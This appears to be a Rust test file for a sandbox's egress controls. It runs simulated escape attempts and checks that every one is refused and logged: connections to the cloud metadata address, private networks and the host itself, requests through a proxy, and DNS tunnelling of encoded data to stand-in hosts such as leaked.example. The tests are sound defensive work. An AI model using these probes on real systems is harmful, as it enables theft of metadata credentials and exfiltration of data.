//! The world outside: what is private, this host, the DNS; and that all of it is told.

use std::io::ErrorKind;
use std::net::{Ipv4Addr, SocketAddr, TcpListener, UdpSocket};

use super::*;

/// Names of this host that lead to itself, beside the usual one.
pub(super) fn own_names() -> Vec<String> {
    let hosts = std::fs::read_to_string("/etc/hosts").unwrap_or_default();
    let local = hosts.lines().filter(|line| line.starts_with("127."));
    let names = local.flat_map(|line| line.split_whitespace().skip(1));
    let mut names: Vec<_> = names.filter(|name| *name != "localhost").map(str::to_owned).collect();
    names.sort();
    names.dedup();
    names
}

/// The address that this host has on its network, if it has one. Nothing is sent.
fn own_address() -> Option<Ipv4Addr> {
    let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
    socket.connect("198.51.100.1:9").ok()?;
    match socket.local_addr().ok()? {
        SocketAddr::V4(address) if !address.ip().is_loopback() => Some(*address.ip()),
        _ => None,
    }
}

/// Connects to the outside, to private ranges and to this host: straight, and by the proxy.
pub(super) async fn reach_what_is_outside(ring: &Ring) {
    let mut places =
        vec!["169.254.169.254:80".to_owned(), "10.0.0.1:80".to_owned(), "192.168.0.1:80".to_owned()];
    let mut listeners = vec![TcpListener::bind("127.0.0.1:0").unwrap()];
    if let Some(own) = own_address() {
        listeners.push(TcpListener::bind((own, 0)).unwrap());
    }
    for listener in &listeners {
        listener.set_nonblocking(true).unwrap();
        places.push(listener.local_addr().unwrap().to_string());
    }
    let straight = ring.attack(&format!("perl reach.pl {}", places.join(" "))).await;
    assert!(straight.contains("TRIED"), "{straight}");
    assert!(!straight.contains("REACHED") && !straight.contains("ANSWERED"), "{straight}");
    assert_eq!(straight.matches("tcp ").count(), places.len(), "{straight}");
    assert_eq!(straight.matches("udp ").count(), places.len(), "{straight}");

    let port = listeners[0].local_addr().unwrap().port();
    let mut targets = places.clone();
    targets.extend(["localhost:80".to_owned(), "127.0.0.1:80".to_owned(), format!("localhost:{port}")]);
    targets.extend(["metadata.unasked.example:80".to_owned(), "[::1]:80".to_owned()]);
    targets.extend(own_names().into_iter().map(|name| format!("{name}:80")));
    let mut command = String::new();
    for target in &targets {
        let _ = writeln!(command, "perl ask.pl 127.0.0.1 4181 GET http://{target}/latest/meta-data");
        let _ = writeln!(command, "perl ask.pl 127.0.0.1 4181 CONNECT {target}");
    }
    let said = ring.attack(&command).await;
    let answers: Vec<_> = said.lines().filter(|line| line.starts_with("ANSWER ")).collect();
    assert_eq!(answers.len(), targets.len() * 2, "{said}");
    for answer in &answers {
        // What is no host at all is no request that can be read.
        let refused = if answer.contains("[::1]") { "ANSWER 400" } else { "ANSWER 403" };
        assert!(answer.starts_with(refused), "{answer}");
    }
    // What the release may ask for is refused for where it leads.
    for host in RULES.iter().map(|host| (*host).to_owned()).chain(own_names()) {
        let by_address = format!("{host}:80 is refused: `{host}` is at ");
        let model = host == "api.anthropic.com";
        assert!(model || answers.iter().any(|answer| answer.contains(&by_address)), "{host}: {answers:#?}");
    }
    for listener in &listeners {
        assert_eq!(listener.accept().unwrap_err().kind(), ErrorKind::WouldBlock);
    }
    let hosts: Vec<_> = targets
        .iter()
        .filter(|target| !target.contains('['))
        .map(|target| target.split(':').next().unwrap().to_owned())
        .collect();
    told(ring, &hosts).await;
}

/// That these hosts were refused is in the session's events and in the audit log.
async fn told(ring: &Ring, hosts: &[String]) {
    let (url, key) = ring.karta.address();
    let http = reqwest::Client::builder().no_proxy().build().unwrap();
    let events = format!("{url}/v1/sessions/{}/events?include=system", ring.attacker);
    let mut events = http.get(events).bearer_auth(&key).header("last-event-id", "0").send().await.unwrap();
    assert_eq!(events.status(), 200);
    let mut text = String::new();
    let heard = |text: &str| {
        let told =
            text.lines().filter(|line| line.contains("\"egress\"") && line.contains("\"allowed\":false"));
        let told: String = told.collect();
        hosts.iter().all(|host| told.contains(&format!("\"host\":\"{host}\"")))
    };
    let listen = async {
        while !heard(&text) {
            let piece = events.chunk().await.unwrap().expect("the stream of a session goes on");
            text.push_str(&String::from_utf8_lossy(&piece));
        }
    };
    let told = tokio::time::timeout(PATIENCE, listen).await;
    assert!(told.is_ok(), "not all of {hosts:?} is told: {text}");
    let page = ring.karta.client.audit(Some("egress.refused"), 100).await.unwrap();
    let session = ring.attacker.to_string();
    let told: String = page
        .data
        .iter()
        .filter(|entry| entry.resource.contains(&session))
        .filter_map(|entry| entry.reason.clone())
        .collect();
    for host in ["169.254.169.254", "10.0.0.1"] {
        assert!(told.contains(host), "{told}");
    }
}

/// Carries something out by the names that are asked for.
pub(super) async fn tunnel_through_the_dns(ring: &Ring) {
    let mut resolvers = vec!["127.0.0.53:53".to_owned(), "198.51.100.53:53".to_owned()];
    let configured = std::fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    let servers = configured.lines().filter_map(|line| line.strip_prefix("nameserver "));
    let servers = servers.filter_map(|server| server.trim().parse::<Ipv4Addr>().ok());
    resolvers.extend(servers.map(|server| format!("{server}:53")));
    let mut listeners = vec![UdpSocket::bind("127.0.0.1:0").unwrap()];
    if let Some(own) = own_address() {
        listeners.push(UdpSocket::bind((own, 0)).unwrap());
    }
    for listener in &listeners {
        listener.set_nonblocking(true).unwrap();
        resolvers.push(listener.local_addr().unwrap().to_string());
    }
    let command = format!(
        "perl reach.pl {}\n\
         for s in $(sed -n 's/^nameserver \\([0-9.]*\\)$/\\1/p' /etc/resolv.conf); do perl reach.pl $s:53; done\n\
         getent hosts localhost > /dev/null && echo WORKS\n\
         getent hosts leaked.example && echo RESOLVED\n\
         getent ahosts leaked.example && echo RESOLVED\n\
         perl -e 'print defined(gethostbyname(\"leaked.example\")) ? \"RESOLVED\\n\" : \"no name\\n\"'\n\
         perl ask.pl 127.0.0.1 4181 GET http://bGVha2Vk.leaked.example/\n\
         perl ask.pl 127.0.0.1 4181 CONNECT bGVha2Vk.leaked.example:443",
        resolvers.join(" ")
    );
    let said = ring.attack(&command).await;
    assert!(said.contains("TRIED") && said.contains("WORKS") && said.contains("no name"), "{said}");
    for sign in ["REACHED", "ANSWERED", "RESOLVED"] {
        assert!(!said.contains(sign), "{sign}: {said}");
    }
    // Beyond its own loopback nothing is even sent.
    for place in resolvers.iter().filter(|place| !place.starts_with("127.")) {
        assert!(said.contains(&format!("udp {place}: FAILED")), "{place}: {said}");
    }
    // No rule asks for it, so the host doesn't resolve it either: its resolver would have said that there is no such name.
    assert_eq!(said.matches("ANSWER 403").count(), 2, "{said}");
    assert_eq!(said.matches("does not name it").count(), 2, "{said}");
    for listener in &listeners {
        assert_eq!(listener.recv(&mut [0; 512]).unwrap_err().kind(), ErrorKind::WouldBlock);
    }
}
